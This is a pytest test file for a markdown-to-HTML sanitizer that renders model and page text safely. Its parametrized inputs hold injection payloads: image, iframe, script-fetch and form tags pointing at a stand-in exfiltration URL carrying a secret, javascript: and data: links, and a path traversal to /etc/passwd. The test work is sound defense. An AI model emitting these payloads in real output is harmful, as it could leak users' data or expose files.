"""Markdown from the model or a page never loads a remote resource; links carry rel.

The renderer's output is HTML: these tests parse it (tests/safe_html.py) and assert on the
elements, links and text a reader gets, not on a string."""

from __future__ import annotations

import pytest

from safe_html import check_html, links_of, text_of
from searchduel.render.markdown import (
    LINK_REL,
    allowed_href,
    literal_markdown,
    markdown_href,
    markdown_text,
    plain_text,
    safe_markdown,
    safe_url,
)

EXFIL = "http://127.0.0.1:9/exfil?q=secret"


@pytest.mark.parametrize(
    "hostile",
    [
        f"``<img src={EXFIL}>```",
        f"```<img src={EXFIL}>``",
        f"`<img src={EXFIL}>``",
        f"``<form action={EXFIL}><input type=password name=p></form>```",
        f"``<video autoplay src={EXFIL}></video>```",
        f"``<audio autoplay src={EXFIL}></audio>```",
        f"![x]({EXFIL})",
        f'![x]({EXFIL} "title")',
        f"![x](<{EXFIL}>)",
        f"![x][r]\n\n[r]: {EXFIL}",
        f'<img src="{EXFIL}">',
        f"<IMG SRC={EXFIL} onerror=alert(1)>",
        f'<picture><source srcset="{EXFIL}"></picture>',
        f'<svg><image href="{EXFIL}"/></svg>',
        f'<iframe src="{EXFIL}"></iframe>',
        f"<script>fetch('{EXFIL}')</script>",
        f'<link rel="stylesheet" href="{EXFIL}">',
        f'<video poster="{EXFIL}"></video>',
        f"<!-- <img src={EXFIL}> -->",
        f"[a]: {EXFIL}\n\n![b][a]",
        f"![b][]\n\n[b]: {EXFIL}",
        f"![shortcut]\n\n[Shortcut]:  <{EXFIL}>  'title'",
        f"![alt across\nlines]({EXFIL})",
        f'![x]({EXFIL} "a ) in the title")',
        f"![[nested]]({EXFIL})",
        f"![x](  {EXFIL}  )",
        f"<{EXFIL}>",
        f"&lt;img src={EXFIL}&gt;",
        f"&#60;img src={EXFIL}&#62;",
        f"\\<img src={EXFIL}>",
        f"[![inner]({EXFIL})](https://ok.example/)",
        f"$$\\href{{{EXFIL}}}{{x}}$$",
        f"\n\n<div>\n\n![x]({EXFIL})\n\n</div>",
    ],
)
def test_nothing_renders_as_an_image_or_a_raw_tag(hostile: str) -> None:
    out = safe_markdown(f"Answer text. {hostile} More.")
    elements, _ = check_html(out)  # every element allowed, every link ours
    assert {tag for tag, _ in elements} <= {"div", "p", "a", "code"}
    text = text_of(out)
    assert "Answer text." in text and "More." in text


def test_html_in_a_code_span_is_shown_as_written() -> None:
    """The bug this module was rebuilt for: a closing run of backticks that is part of a
    longer run does not close a code span (CommonMark), so the HTML is not in one."""
    out = safe_markdown(f"``<img src={EXFIL}>``` and `<b>`")
    assert text_of(out) == f"``<img src={EXFIL}>``` and <b>"
    assert [tag for tag, _ in check_html(out)[0]] == ["div", "p", "code"]


def test_links_open_in_a_new_tab_without_opener_or_referrer() -> None:
    out = safe_markdown("See [the tide tables](https://tides.example/skagway) [1].")
    assert links_of(out) == [("https://tides.example/skagway", "the tide tables")]
    assert f'target="_blank" rel="{LINK_REL}"' in out
    assert text_of(out) == "See the tide tables [1]."


def test_images_become_links_the_reader_may_choose_to_follow() -> None:
    assert links_of(safe_markdown(f"![a chart]({EXFIL})")) == [(EXFIL, "image: a chart")]
    assert text_of(safe_markdown("![a chart](javascript:x)")) == "image: a chart"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "file:///etc/passwd"]
)
def test_unsafe_link_schemes_keep_their_text_only(url: str) -> None:
    out = safe_markdown(f"[click]({url})")
    assert text_of(out) == "click" and links_of(out) == []
    assert safe_url(url) is None and allowed_href(url) is None


def test_code_is_left_exactly_as_written() -> None:
    code = 'Use `<img src=x>` or:\n\n```html\n<img src="a.png">\n![x](y)\n\n\n$$x$$\n```\nafter <b>'
    out = safe_markdown(code)
    elements, text = check_html(out)
    assert [tag for tag, _ in elements] == ["div", "p", "code", "pre", "code", "p"]
    assert text.startswith("Use <img src=x> or:")
    assert '<img src="a.png">\n![x](y)\n\n\n$$x$$\n' in text, "blank lines and all"
    assert text.endswith("after <b>")


def test_plain_text_and_comparisons_pass_unchanged() -> None:
    text = "If a < b and b > c, then 2<3; citations [1][2] stay. mail me@example.org"
    assert text_of(safe_markdown(text)) == text
    assert safe_markdown("") == "" and safe_markdown(" \n ") == ""


@pytest.mark.parametrize("url", ["mailto:me@example.org", "//evil.example/x", "http:/x", "/x"])
def test_only_absolute_http_links_and_the_app_stay_links(url: str) -> None:
    assert text_of(safe_markdown(f"[write]({url})")) == "write"
    assert links_of(safe_markdown("[doc](/corpus/a%20b.md)")) == [("/corpus/a%20b.md", "doc")]
    for elsewhere in ("/corpus/../gradio_api/file=/etc/passwd", "/gradio_api/file=/etc/passwd"):
        assert text_of(safe_markdown(f"[doc]({elsewhere})")) == "doc", "no step out of the route"


def test_reference_links_become_our_anchors_and_definitions_go() -> None:
    out = safe_markdown('See [the tables][t] or [T].\n\n[t]: https://tides.example/ "Tides"')
    assert [href for href, _ in links_of(out)] == ["https://tides.example/"] * 2
    assert "[t]:" not in text_of(out)
    assert text_of(safe_markdown("[x][j]\n\n[j]: javascript:alert(1)")) == "x"


def test_a_defined_number_never_hijacks_a_citation() -> None:
    out = safe_markdown(f"tides [1]\n\n[1]: {EXFIL}")
    assert text_of(out) == "tides [1]" and links_of(out) == []


def test_citations_link_to_their_sources_and_blind_answers_lose_them() -> None:
    cites = {1: ("https://a.example/x", "A — https://a.example/x"), 2: ("corpus://b.md", "B")}
    out = safe_markdown(
        "Rail [1] and museum [2, 3]. `code [1]` [see [1]](https://c.example/)", citations=cites
    )
    assert links_of(out) == [("https://a.example/x", "[1]"), ("https://c.example/", "see [1]")]
    assert "museum [2][3?]." in text_of(out), "no link where the source has no address"
    blind = safe_markdown("Rail [1] and museum [2, 3]. `code [1]`", strip_citations=True)
    assert text_of(blind) == "Rail and museum. code [1]"


def test_entities_stay_text() -> None:
    out = safe_markdown("&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt; &#x3c;i&#62;")
    assert text_of(out) == "<img src=x onerror=alert(1)> &lt;b&gt; <i>"
    assert [tag for tag, _ in check_html(out)[0]] == ["div", "p"]


def test_latex_delimiters_never_reach_the_browser() -> None:
    out = safe_markdown("Costs $$5 and $$x^2$$ and %%%LATEX_BLOCK_0%%%")
    assert "$" not in out and "%%" not in out
    assert text_of(out) == "Costs $$5 and $$x^2$$ and %%%LATEX_BLOCK_0%%%"


@pytest.mark.parametrize(
    "field",
    [
        f"![x]({EXFIL})",
        f"<img src={EXFIL}>",
        f"x)![y]({EXFIL}",
        "a | b [c](javascript:alert(1))",
        "**bold** _it_ ~~s~~ $$x$$ %%%LATEX_BLOCK_0%%%",
        "two\nlines | cell",
    ],
)
def test_short_fields_are_plain_text(field: str) -> None:
    out = plain_text(field)
    assert "<" not in out and "\n" not in out and "%%" not in out
    for syntax in "[]!|\\`*_~$":
        assert syntax not in out.replace("&#", ""), f"{syntax!r} is written as an entity"


def test_link_destinations_cannot_end_early() -> None:
    href = markdown_href(f'https://e.example/x)![y]({EXFIL}) a"b$$')
    assert not any(c in href for c in ' ()[]"$')


def test_literal_markdown_is_shown_as_written() -> None:
    text = f"**x** <b> ![i]({EXFIL}) `c` [1] # h\n- l"
    assert text_of(safe_markdown(literal_markdown(text))) == " ".join(text.split())


def test_markdown_text_keeps_the_words_without_the_syntax() -> None:
    passage = (
        "# Apollo 11: The *First* Landing\n\nSee [the log](http://x.example) ![m](y).\n\n## Crew"
    )
    assert markdown_text(passage) == "Apollo 11: The First Landing See the log m. Crew"
    assert markdown_text("<b>x</b> `a*b`") == "<b>x</b> a*b"
